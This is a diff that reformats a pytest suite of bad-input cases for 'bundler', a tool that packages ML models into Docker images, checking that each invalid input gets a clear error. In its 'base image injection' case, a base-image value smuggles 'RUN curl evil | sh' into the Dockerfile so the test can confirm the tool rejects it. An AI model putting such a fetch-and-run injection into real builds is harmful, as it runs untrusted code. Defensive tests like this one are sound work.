@@ -36,6 +36,7 @@ def template(blocks):
     def setup(p):
         write(p / "t.jinja", '{% extends "Dockerfile.jinja" %}\n' + blocks)
         write(p / "bundler.toml", '[dockerfile]\ntemplate = "t.jinja"\n')
+
     return setup
 
 
@@ -65,88 +66,221 @@ CASES = [
     ("port flag out of range", nothing, ["serve", "out", "--port", "70000"], 2, "70000 is not in the range"),
     # bundler.toml
     ("toml syntax error", toml('models = ["m"\n[inference]\n'), ["save", "out"], 2, "invalid TOML"),
-    ("toml unknown key", toml('models = ["m"]\n[inference]\nentry_scirpt = "score.py"\n'), ["save", "out"], 2,
-     "did you mean 'entry_script'?"),
+    (
+        "toml unknown key",
+        toml('models = ["m"]\n[inference]\nentry_scirpt = "score.py"\n'),
+        ["save", "out"],
+        2,
+        "did you mean 'entry_script'?",
+    ),
     ("toml wrong type", toml('models = "m"\n'), ["save", "out"], 2, "'models' must be a list, not a string"),
-    ("toml binary garbage", lambda p: write(p / "bundler.toml", b"\x00\xff\xfe garbage"), ["save", "out"], 2,
-     "not a text file"),
+    (
+        "toml binary garbage",
+        lambda p: write(p / "bundler.toml", b"\x00\xff\xfe garbage"),
+        ["save", "out"],
+        2,
+        "not a text file",
+    ),
     ("toml missing --config", nothing, ["save", "out", "--config", "missing.toml"], 2, "missing.toml not found"),
-    ("toml password", toml('models = ["m"]\n[registry]\npassword = "hunter2"\n'), ["save", "out"], 2,
-     "password_env"),
-    ("toml port out of range", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nport = 0\n'),
-     ["save", "out"], 2, "port must be between 1 and 65535"),
-    ("toml unknown engine", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nengine = "x"\n'),
-     ["save", "out"], 2, "engine must be one of"),
-    ("toml conda not yet", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n'
-                                '[environment]\nconda_file = "score.py"\n'), ["save", "out"], 2, "not supported yet"),
-    ("vendored wheels for another Python", nothing,
-     [*SAVE, "--vendor", "--base-image", "python:3.12-slim"], 2,
-     "python:3.12-slim runs Python 3.12, but the wheels would be vendored for Python 3.11"),
+    ("toml password", toml('models = ["m"]\n[registry]\npassword = "hunter2"\n'), ["save", "out"], 2, "password_env"),
+    (
+        "toml port out of range",
+        toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nport = 0\n'),
+        ["save", "out"],
+        2,
+        "port must be between 1 and 65535",
+    ),
+    (
+        "toml unknown engine",
+        toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nengine = "x"\n'),
+        ["save", "out"],
+        2,
+        "engine must be one of",
+    ),
+    (
+        "toml conda not yet",
+        toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[environment]\nconda_file = "score.py"\n'),
+        ["save", "out"],
+        2,
+        "not supported yet",
+    ),
+    (
+        "vendored wheels for another Python",
+        nothing,
+        [*SAVE, "--vendor", "--base-image", "python:3.12-slim"],
+        2,
+        "python:3.12-slim runs Python 3.12, but the wheels would be vendored for Python 3.11",
+    ),
     # a user Dockerfile template
-    ("template type error", template('{% block labels %}\nLABEL port={{ "p" + plan.port }}\n{% endblock %}'), SAVE, 2,
-     "your Dockerfile template line 3: TypeError: can only concatenate str"),
-    ("template division by zero", template("{% block labels %}{{ 1 / 0 }}{% endblock %}"), SAVE, 2,
-     "your Dockerfile template line 2: ZeroDivisionError"),
+    (
+        "template type error",
+        template('{% block labels %}\nLABEL port={{ "p" + plan.port }}\n{% endblock %}'),
+        SAVE,
+        2,
+        "your Dockerfile template line 3: TypeError: can only concatenate str",
+    ),
+    (
+        "template division by zero",
+        template("{% block labels %}{{ 1 / 0 }}{% endblock %}"),
+        SAVE,
+        2,
+        "your Dockerfile template line 2: ZeroDivisionError",
+    ),
     # entry script
     ("entry script missing", nothing, [*SAVE[:4], "--entry-script", "absent.py"], 2, "absent.py not found"),
-    ("entry script is a folder", lambda p: (p / "folder.py").mkdir(), [*SAVE[:4], "--entry-script", "folder.py"], 2,
-     "is not a file"),
-    ("entry script without .py", lambda p: write(p / "score", GOOD_SCRIPT), [*SAVE[:4], "--entry-script", "score"], 2,
-     "must be a .py file"),
+    (
+        "entry script is a folder",
+        lambda p: (p / "folder.py").mkdir(),
+        [*SAVE[:4], "--entry-script", "folder.py"],
+        2,
+        "is not a file",
+    ),
+    (
+        "entry script without .py",
+        lambda p: write(p / "score", GOOD_SCRIPT),
+        [*SAVE[:4], "--entry-script", "score"],
+        2,
+        "must be a .py file",
+    ),
     ("entry script syntax error", script("def init(:\n"), SAVE, 2, "score.py:1: entry script has a syntax error"),
     ("entry script without run", script("def init():\n    pass\n"), SAVE, 2, "no top-level run()"),
     ("entry script without init", script("def run(raw):\n    return raw\n"), SAVE, 2, "no top-level init()"),
     ("entry script is binary", script(b"\x00\x01\x02"), SAVE, 2, "score.py"),
-    ("raw-http script forced onto bundler engine",
-     lambda p: (write(p / "score.py", "from azureml.contrib.services.aml_request import rawhttp\n" + GOOD_SCRIPT),
-                write(p / "bundler.toml", '[server]\nengine = "bundler"\n')),
-     SAVE, 2, 'engine = "azureml"'),
+    (
+        "raw-http script forced onto bundler engine",
+        lambda p: (
+            write(p / "score.py", "from azureml.contrib.services.aml_request import rawhttp\n" + GOOD_SCRIPT),
+            write(p / "bundler.toml", '[server]\nengine = "bundler"\n'),
+        ),
+        SAVE,
+        2,
+        'engine = "azureml"',
+    ),
     # model references and registry names
-    ("unknown model", nothing, ["save", "out", "--model", "nosuch", "--entry-script", "score.py"], 2,
-     "model 'nosuch' is not registered"),
-    ("unknown version", nothing, ["save", "out", "--model", "m:9", "--entry-script", "score.py"], 2,
-     "has no version 9"),
-    ("malformed reference", nothing, ["save", "out", "--model", "m:1:2", "--entry-script", "score.py"], 2,
-     "invalid model reference"),
-    ("path-like reference", nothing, ["save", "out", "--model", "../../etc:1", "--entry-script", "score.py"], 2,
-     "invalid model name"),
+    (
+        "unknown model",
+        nothing,
+        ["save", "out", "--model", "nosuch", "--entry-script", "score.py"],
+        2,
+        "model 'nosuch' is not registered",
+    ),
+    (
+        "unknown version",
+        nothing,
+        ["save", "out", "--model", "m:9", "--entry-script", "score.py"],
+        2,
+        "has no version 9",
+    ),
+    (
+        "malformed reference",
+        nothing,
+        ["save", "out", "--model", "m:1:2", "--entry-script", "score.py"],
+        2,
+        "invalid model reference",
+    ),
+    (
+        "path-like reference",
+        nothing,
+        ["save", "out", "--model", "../../etc:1", "--entry-script", "score.py"],
+        2,
+        "invalid model name",
+    ),
     ("path-like register name", nothing, ["register", "model.bin", "--name", "../escape"], 2, "invalid model name"),
     ("show unknown model", nothing, ["models", "show", "ghost"], 2, "model 'ghost' is not registered"),
     # sources
-    ("source dir missing", nothing, ["save", "out", "--model", "m", "--source-dir", "nope", "--entry-script", "score.py"],
-     2, "--source-dir: source directory"),
-    ("entry script ignored by .bundlerignore",
-     lambda p: (write(p / "src" / "score.py", GOOD_SCRIPT), write(p / "src" / ".bundlerignore", "*.py\n")),
-     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"], 2,
-     "the entry script is left out of the source directory by a rule"),
-    ("symlink out of the source directory", symlink_out_of_source,
-     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"], 2,
-     "outside the source directory"),
-    ("symlink out of the model folder", symlink_out_of_model, ["register", "modeldir", "--name", "linked"], 2,
-     "outside"),
-    ("entry script outside the source directory", lambda p: write(p / "src" / "x.py", "x = 1\n"),
-     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "../score.py"], 2,
-     "must be inside the source directory"),
-    ("source directory missing", nothing,
-     ["save", "out", "--model", "m", "--source-dir", "nowhere", "--entry-script", "score.py"], 2, "not found"),
+    (
+        "source dir missing",
+        nothing,
+        ["save", "out", "--model", "m", "--source-dir", "nope", "--entry-script", "score.py"],
+        2,
+        "--source-dir: source directory",
+    ),
+    (
+        "entry script ignored by .bundlerignore",
+        lambda p: (write(p / "src" / "score.py", GOOD_SCRIPT), write(p / "src" / ".bundlerignore", "*.py\n")),
+        ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"],
+        2,
+        "the entry script is left out of the source directory by a rule",
+    ),
+    (
+        "symlink out of the source directory",
+        symlink_out_of_source,
+        ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"],
+        2,
+        "outside the source directory",
+    ),
+    (
+        "symlink out of the model folder",
+        symlink_out_of_model,
+        ["register", "modeldir", "--name", "linked"],
+        2,
+        "outside",
+    ),
+    (
+        "entry script outside the source directory",
+        lambda p: write(p / "src" / "x.py", "x = 1\n"),
+        ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "../score.py"],
+        2,
+        "must be inside the source directory",
+    ),
+    (
+        "source directory missing",
+        nothing,
+        ["save", "out", "--model", "m", "--source-dir", "nowhere", "--entry-script", "score.py"],
+        2,
+        "not found",
+    ),
     # environment files, base image, registry
     ("requirements missing", nothing, [*SAVE, "--requirements", "reqs.txt"], 2, "requirements file"),
-    ("requirements include missing", lambda p: write(p / "reqs.txt", "-r base.txt\n"),
-     [*SAVE, "--requirements", "reqs.txt"], 2, "reqs.txt:1: includes base.txt, which is not a file"),
-    ("requirements include outside", lambda p: (write(p / "env" / "reqs.txt", "-r ../base.txt\n"),
-                                                write(p / "base.txt", "six\n")),
-     [*SAVE, "--requirements", "env/reqs.txt"], 2, "move it there"),
-    ("requirements local path", lambda p: write(p / "reqs.txt", "numpy==2.4.6\n-e ./mypkg\n"),
-     [*SAVE, "--requirements", "reqs.txt"], 2, "reqs.txt:2: -e ./mypkg installs a folder on this machine"),
-    ("requirements password in a URL",
-     lambda p: write(p / "reqs.txt", "--index-url https://me:hunter2@pypi.example/simple\n"),
-     [*SAVE, "--requirements", "reqs.txt"], 2, "a URL holds credentials (me:****)"),
-    ("base image injection", nothing, [*SAVE, "--base-image", "python:3.11\nRUN curl evil | sh"], 2,
-     "not an image reference"),
-    ("registry address mismatch", toml('[registry]\naddress = "other.io"\nusername = "u"\npassword_env = "P"\n'),
-     SAVE, 2, "not where the base image"),
-    ("password_env holding a password", toml('[registry]\naddress = "docker.io"\nusername = "u"\n'
-                                             'password_env = "hunter2!"\n'), SAVE, 2, "NAME of an environment variable"),
+    (
+        "requirements include missing",
+        lambda p: write(p / "reqs.txt", "-r base.txt\n"),
+        [*SAVE, "--requirements", "reqs.txt"],
+        2,
+        "reqs.txt:1: includes base.txt, which is not a file",
+    ),
+    (
+        "requirements include outside",
+        lambda p: (write(p / "env" / "reqs.txt", "-r ../base.txt\n"), write(p / "base.txt", "six\n")),
+        [*SAVE, "--requirements", "env/reqs.txt"],
+        2,
+        "move it there",
+    ),
+    (
+        "requirements local path",
+        lambda p: write(p / "reqs.txt", "numpy==2.4.6\n-e ./mypkg\n"),
+        [*SAVE, "--requirements", "reqs.txt"],
+        2,
+        "reqs.txt:2: -e ./mypkg installs a folder on this machine",
+    ),
+    (
+        "requirements password in a URL",
+        lambda p: write(p / "reqs.txt", "--index-url https://me:hunter2@pypi.example/simple\n"),
+        [*SAVE, "--requirements", "reqs.txt"],
+        2,
+        "a URL holds credentials (me:****)",
+    ),
+    (
+        "base image injection",
+        nothing,
+        [*SAVE, "--base-image", "python:3.11\nRUN curl evil | sh"],
+        2,
+        "not an image reference",
+    ),
+    (
+        "registry address mismatch",
+        toml('[registry]\naddress = "other.io"\nusername = "u"\npassword_env = "P"\n'),
+        SAVE,
+        2,
+        "not where the base image",
+    ),
+    (
+        "password_env holding a password",
+        toml('[registry]\naddress = "docker.io"\nusername = "u"\npassword_env = "hunter2!"\n'),
+        SAVE,
+        2,
+        "NAME of an environment variable",
+    ),
     # output paths and bundles
     ("output is a file", lambda p: write(p / "out", "a file"), SAVE, 1, "is not a folder"),
     ("output is somebody's folder", lambda p: write(p / "out" / "thesis.tex", "work"), SAVE, 1, "not a bundle"),
@@ -160,8 +294,11 @@ def registry(tmp_path_factory):
     home = tmp_path_factory.mktemp("home")
     model = home / "model.bin"
     model.write_bytes(b"weights")
-    done = subprocess.run([sys.executable, "-m", "bundler", "register", str(model), "--name", "m", "--home", str(home)],
-                          capture_output=True, text=True)
+    done = subprocess.run(
+        [sys.executable, "-m", "bundler", "register", str(model), "--name", "m", "--home", str(home)],
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode == 0, done.stderr
     return home
 
@@ -182,8 +319,9 @@ def test_bad_input(tmp_path, registry, name, setup, command, code, expected):
     before_tree = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
     before_registry = registry_state(registry)
     env = {**os.environ, "BUNDLER_HOME": str(registry)}
-    done = subprocess.run([sys.executable, "-m", "bundler", *command], cwd=tmp_path, env=env,
-                          capture_output=True, text=True, timeout=60)
+    done = subprocess.run(
+        [sys.executable, "-m", "bundler", *command], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
+    )
     lines = done.stderr.splitlines()
     assert done.returncode == code, done.stderr
     assert len(lines) == 1 and lines[0].startswith("bundler: error: "), done.stderr
@@ -196,8 +334,13 @@ def test_bad_input(tmp_path, registry, name, setup, command, code, expected):
 def test_debug_shows_the_traceback(tmp_path, registry):
     write(tmp_path / "score.py", GOOD_SCRIPT)
     env = {**os.environ, "BUNDLER_HOME": str(registry)}
-    done = subprocess.run([sys.executable, "-m", "bundler", "--debug", "save", "out", "--model", "ghost",
-                           "--entry-script", "score.py"], cwd=tmp_path, env=env, capture_output=True, text=True)
+    done = subprocess.run(
+        [sys.executable, "-m", "bundler", "--debug", "save", "out", "--model", "ghost", "--entry-script", "score.py"],
+        cwd=tmp_path,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode != 0
     assert "Traceback (most recent call last)" in done.stderr and "ModelNotFound" in done.stderr
 
@@ -205,8 +348,13 @@ def test_debug_shows_the_traceback(tmp_path, registry):
 def test_a_closed_pipe_is_not_an_error_message(tmp_path, registry):
     # `bundler models list | head -1`: the reader left; nothing more to say.
     env = {**os.environ, "BUNDLER_HOME": str(registry)}
-    done = subprocess.Popen([sys.executable, "-m", "bundler", "models", "list"], cwd=tmp_path, env=env,
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    done = subprocess.Popen(
+        [sys.executable, "-m", "bundler", "models", "list"],
+        cwd=tmp_path,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     done.stdout.close()  # before it writes a byte
     stderr = done.stderr.read().decode()
     done.wait(60)
